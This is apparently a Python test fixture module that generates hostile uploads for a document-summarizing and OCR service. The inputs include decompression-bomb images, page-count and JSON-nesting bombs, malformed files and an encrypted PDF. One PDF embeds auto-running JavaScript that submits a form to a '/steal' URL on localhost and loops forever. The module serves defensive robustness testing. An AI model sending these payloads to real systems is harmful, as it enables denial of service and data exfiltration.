"""Hostile inputs, every one made in code: broken and oversized images, nasty PDFs, bad text.

Each :class:`Hostile` says what it is, the bytes to send, and which answers are right for it
(the status and a word the error message must contain). The files are small on the wire even
when they claim to be huge: a decompression bomb is a few hundred KB that would inflate to
hundreds of megapixels. Nothing here touches the disk or the network.
"""

from __future__ import annotations

import hashlib
import json
import struct
import zlib
from dataclasses import dataclass, field
from functools import cache

from PIL import Image, ImageDraw, ImageFont

from tests.support.documents import encode, pdf_string, serialize

#: A short text of ordinary sentences: the part of a hostile PDF that is fine.
SENTENCES = (
    "The harbour board met on Monday to plan the new ferry terminal.",
    "Work on the northern pier will start in April and last two years.",
    "The board expects the terminal to carry a million passengers a year.",
    "Local shops asked for a bus link between the terminal and the old town.",
)


@dataclass(frozen=True)
class Hostile:
    """One hostile upload and the answers that are right for it."""

    name: str
    data: bytes = field(repr=False)
    filename: str
    content_type: str
    #: Acceptable statuses; the first is what the service is expected to answer.
    statuses: tuple[int, ...]
    #: A word (lower case) the error message must contain; "" for a 200.
    says: str


# ---------------------------------------------------------------- images


def _text_image(text: str = "Hostile input test 42") -> Image.Image:
    font = ImageFont.load_default(size=28)
    img = Image.new("L", (int(font.getlength(text)) + 20, 45), 255)
    ImageDraw.Draw(img).text((10, 7), text, font=font, fill=0)
    return img


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


@cache
def bomb_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of ``width`` × ``height`` white pixels.

    One row is ``width / 8`` bytes; zlib squeezes the all-equal rows ~1000:1, so a
    19,000 × 19,000 (361 megapixel) bomb is ~45 KB, and decoding it to 8-bit grey would take
    361 MB. Written chunk by chunk: the raw image never exists in memory here either.
    """
    row = b"\x00" + b"\xff" * ((width + 7) // 8)  # filter byte 0, then the packed bits
    packer = zlib.compressobj(9)
    parts = [packer.compress(row * 64) for _ in range(height // 64)]
    parts.append(packer.compress(row * (height % 64)))
    parts.append(packer.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, grey
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def strip_png(width: int = 100_000, height: int = 1) -> bytes:
    """A 1 × 100,000 px strip: tiny on the wire, absurd as a page."""
    return bomb_png(width, height)


def many_page_tiff(pages: int = 200) -> bytes:
    """A TIFF of ``pages`` 1-pixel frames: a page-count bomb."""
    frames = [Image.new("L", (1, 1), 255) for _ in range(pages)]
    return encode(frames[0], "TIFF", save_all=True, append_images=frames[1:])


# ---------------------------------------------------------------- PDFs


def _rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


#: The padding string of the PDF standard security handler (ISO 32000-1, 7.6.3.3).
_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
_FILE_ID = hashlib.md5(b"docsum hostile corpus").digest()


class _Encryption:
    """RC4 40-bit (V 1, R 2) with a user password: a genuinely encrypted PDF that any reader
    opens with the password and none opens without it."""

    def __init__(self, user_password: str, owner_password: str, permissions: int = -4) -> None:
        user = (user_password.encode("latin-1") + _PAD)[:32]
        owner = (owner_password.encode("latin-1") + _PAD)[:32]
        self.o = _rc4(hashlib.md5(owner).digest()[:5], user)
        self.p = permissions
        self.key = hashlib.md5(user + self.o + struct.pack("<i", self.p) + _FILE_ID).digest()[:5]
        self.u = _rc4(self.key, _PAD)

    def object_key(self, number: int) -> bytes:
        return hashlib.md5(self.key + struct.pack("<I", number)[:3] + b"\x00\x00").digest()[:10]

    def dictionary(self) -> bytes:
        return (
            b"<< /Filter /Standard /V 1 /R 2 /O <"
            + self.o.hex().encode()
            + b"> /U <"
            + self.u.hex().encode()
            + b"> /P "
            + str(self.p).encode()
            + b" >>"
        )


def _text_stream(lines: list[str]) -> bytes:
    ops = [b"BT /F1 11 Tf 14 TL 72 720 Td"]
    ops += [pdf_string(line) + b" Tj T*" for line in lines]
    ops.append(b"ET")
    return b"\n".join(ops)


def build_pdf(
    pages: list[list[str]],
    *,
    javascript: str | None = None,
    user_password: str | None = None,
) -> bytes:
    """A PDF written object by object: each page is lines of Helvetica text.

    ``javascript`` adds it three ways a viewer would run it: the document's open action, the
    document-level JavaScript name tree, and a form field's keystroke action. A
    ``user_password`` encrypts every stream with the standard security handler.
    """
    objects: list[bytes] = []

    def reserve() -> int:
        objects.append(b"")
        return len(objects)

    catalog, pages_obj = reserve(), reserve()
    font = reserve()
    objects[font - 1] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    encryption = _Encryption(user_password, "owner-" + user_password) if user_password else None
    kids = []
    for lines in pages:
        content = reserve()
        stream = _text_stream(lines)
        if encryption is not None:
            stream = _rc4(encryption.object_key(content), stream)
        objects[content - 1] = (
            f"<< /Length {len(stream)} >>\nstream\n".encode() + stream + b"\nendstream"
        )
        page = reserve()
        objects[page - 1] = (
            f"<< /Type /Page /Parent {pages_obj} 0 R /MediaBox [0 0 612 792] "
            f"/Resources << /Font << /F1 {font} 0 R >> >> /Contents {content} 0 R >>"
        ).encode()
        kids.append(page)
    extra = b""
    if javascript is not None:
        js = reserve()
        objects[js - 1] = b"<< /Type /Action /S /JavaScript /JS " + pdf_string(javascript) + b" >>"
        field_obj = reserve()
        objects[field_obj - 1] = (
            f"<< /FT /Tx /T (name) /Rect [72 72 300 96] /P {kids[0]} 0 R /Subtype /Widget "
            f"/AA << /K {js} 0 R /F {js} 0 R >> >>"
        ).encode()
        extra = (
            f" /OpenAction {js} 0 R /Names << /JavaScript << /Names [(run) {js} 0 R] >> >>"
            f" /AcroForm << /Fields [{field_obj} 0 R] /NeedAppearances true >>"
        ).encode()
    objects[catalog - 1] = f"<< /Type /Catalog /Pages {pages_obj} 0 R".encode() + extra + b" >>"
    objects[pages_obj - 1] = (
        f"<< /Type /Pages /Kids [{' '.join(f'{k} 0 R' for k in kids)}] /Count {len(kids)} >>"
    ).encode()
    trailer = b""
    if encryption is not None:
        enc = reserve()
        objects[enc - 1] = encryption.dictionary()
        trailer = f" /Encrypt {enc} 0 R".encode()
    file_id = _FILE_ID.hex().encode()
    return serialize(objects, catalog, trailer + b" /ID [<" + file_id + b"> <" + file_id + b">]")


#: What the hostile PDF's JavaScript would do if it ran.
PDF_JAVASCRIPT = (
    "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal'); "
    "while (true) { this.getField('name').value += 'x'; }"
)
#: The password of the encrypted PDF (the tests open it with it, to show it is real).
PDF_PASSWORD = "correct horse"  # pragma: allowlist secret (a test fixture)


def javascript_pdf() -> bytes:
    return build_pdf([list(SENTENCES)], javascript=PDF_JAVASCRIPT)


def encrypted_pdf() -> bytes:
    return build_pdf([list(SENTENCES)], user_password=PDF_PASSWORD)


def long_pdf(pages: int = 500) -> bytes:
    return build_pdf([[f"Page {n} of the long report.", SENTENCES[n % 4]] for n in range(pages)])


# ---------------------------------------------------------------- text and JSON


def invalid_utf8_json() -> bytes:
    """A JSON body whose string holds bytes that are not UTF-8 (Latin-1 é, 0xFF, a cut
    multi-byte sequence)."""
    return b'{"text": "caf\xe9 cr\xe8me \xff\xfe and a cut \xe2\x82 sequence."}'


def lone_surrogate_json() -> bytes:
    """Valid JSON, invalid Unicode: an unpaired surrogate escape."""
    return b'{"text": "A lone \\ud800 surrogate in a sentence."}'


def big_text(size: int = 10_000_000) -> str:
    """``size`` bytes of plausible text (10 MB by default)."""
    sentence = "The committee read the long report again and found nothing new in it. "
    return (sentence * (size // len(sentence) + 1))[:size]


def big_text_json(size: int = 10_000_000) -> bytes:
    return json.dumps({"text": big_text(size)}).encode()


def nested_json(depth: int = 100_000) -> bytes:
    """``{"text": [[[[...]]]]}`` nested ``depth`` deep: a parser-recursion bomb."""
    return b'{"text": ' + b"[" * depth + b"]" * depth + b"}"


def nested_object_json(depth: int = 100_000) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


# ---------------------------------------------------------------- the corpora


@cache
def image_corpus() -> tuple[Hostile, ...]:
    """Uploads for an image endpoint (the OCR service's /v1/ocr, the gateway's /api/v1/ocr).

    Limits assumed: at most 20,000 px a side, 20 megapixels, 50 pages (the test services'
    settings); anything bigger must be 413 and must never be decoded.
    """
    png = encode(_text_image(), "PNG")
    jpeg = encode(_text_image().convert("RGB"), "JPEG", quality=90)
    return (
        Hostile("truncated PNG", png[: len(png) // 2], "scan.png", "image/png", (422,), "trunc"),
        Hostile(
            "truncated JPEG", jpeg[: len(jpeg) // 2], "scan.jpg", "image/jpeg", (422,), "trunc"
        ),
        Hostile("PNG header only", png[:33], "scan.png", "image/png", (422,), "could not be read"),
        Hostile(
            "decompression bomb (19,000 x 19,000 px PNG)",
            bomb_png(19_000, 19_000),
            "bomb.png",
            "image/png",
            (413,),
            "pixels",
        ),
        Hostile("1 x 100,000 px image", strip_png(), "strip.png", "image/png", (413,), "side"),
        Hostile("200-page TIFF", many_page_tiff(), "pages.tiff", "image/tiff", (413,), "pages"),
        # The OCR service says "empty" (422); the gateway's sniffing says "not a PNG..." (415).
        Hostile("0 bytes", b"", "empty.png", "image/png", (422, 415), ""),
        Hostile(
            "text file named .png",
            b"just some text, not an image\n" * 10,
            "page.png",
            "image/png",
            (415,),
            "not",
        ),
        Hostile(
            "ZIP named .jpg", b"PK\x03\x04" + b"\x00" * 60, "page.jpg", "image/jpeg", (415,), "png"
        ),
        Hostile(
            "PDF with JavaScript (to an image route)",
            javascript_pdf(),
            "doc.pdf",
            "application/pdf",
            (415,),
            "pdf",
        ),
        # A real PNG under a PDF's name and type: the bytes decide, so it is simply read.
        Hostile("PNG named .pdf", png, "scan.pdf", "application/pdf", (200,), ""),
    )


@cache
def document_corpus() -> tuple[Hostile, ...]:
    """Uploads for the gateway's /api/v1/documents:summarize (PDF limit: 100 pages)."""
    return (
        Hostile("PDF with JavaScript", javascript_pdf(), "doc.pdf", "application/pdf", (200,), ""),
        Hostile(
            "encrypted PDF", encrypted_pdf(), "secret.pdf", "application/pdf", (422,), "password"
        ),
        Hostile("500-page PDF", long_pdf(), "long.pdf", "application/pdf", (422,), "500 pages"),
        Hostile(
            "truncated PDF",
            javascript_pdf()[:300],
            "cut.pdf",
            "application/pdf",
            (422,),
            "not a readable pdf",
        ),
        Hostile("0 bytes", b"", "empty.pdf", "application/pdf", (415, 422), ""),
        Hostile(
            "text named .pdf",
            b"%PD not a pdf at all\n" * 4,
            "doc.pdf",
            "application/pdf",
            (415,),
            "not",
        ),
        Hostile(
            "decompression bomb (19,000 x 19,000 px PNG)",
            bomb_png(19_000, 19_000),
            "bomb.png",
            "image/png",
            (413,),
            "pixels",
        ),
    )


#: name → (JSON body bytes, acceptable statuses, a word the message must contain).
JsonCase = tuple[bytes, tuple[int, ...], str]


@cache
def json_corpus() -> dict[str, JsonCase]:
    """Bodies for a JSON text endpoint (the summarizer's /v1/summarize, the gateway's
    /api/v1/summarize); limits assumed: 10 MiB of body, 200,000 bytes of text."""
    return {
        "invalid UTF-8": (invalid_utf8_json(), (400,), "utf-8"),
        "lone surrogate": (lone_surrogate_json(), (422,), "unicode"),
        "10 MB of text": (big_text_json(), (413,), "limit"),
        "deeply nested array": (nested_json(), (400,), "nested"),
        "deeply nested object": (nested_object_json(), (400,), "nested"),
        "truncated JSON": (b'{"text": "abc', (400, 422), ""),
        "NUL bytes": (json.dumps({"text": "a\u0000b. " * 1000}).encode(), (200, 422), ""),
        "not JSON at all": (b"\x00\x01\x02binary", (400, 422), ""),
    }
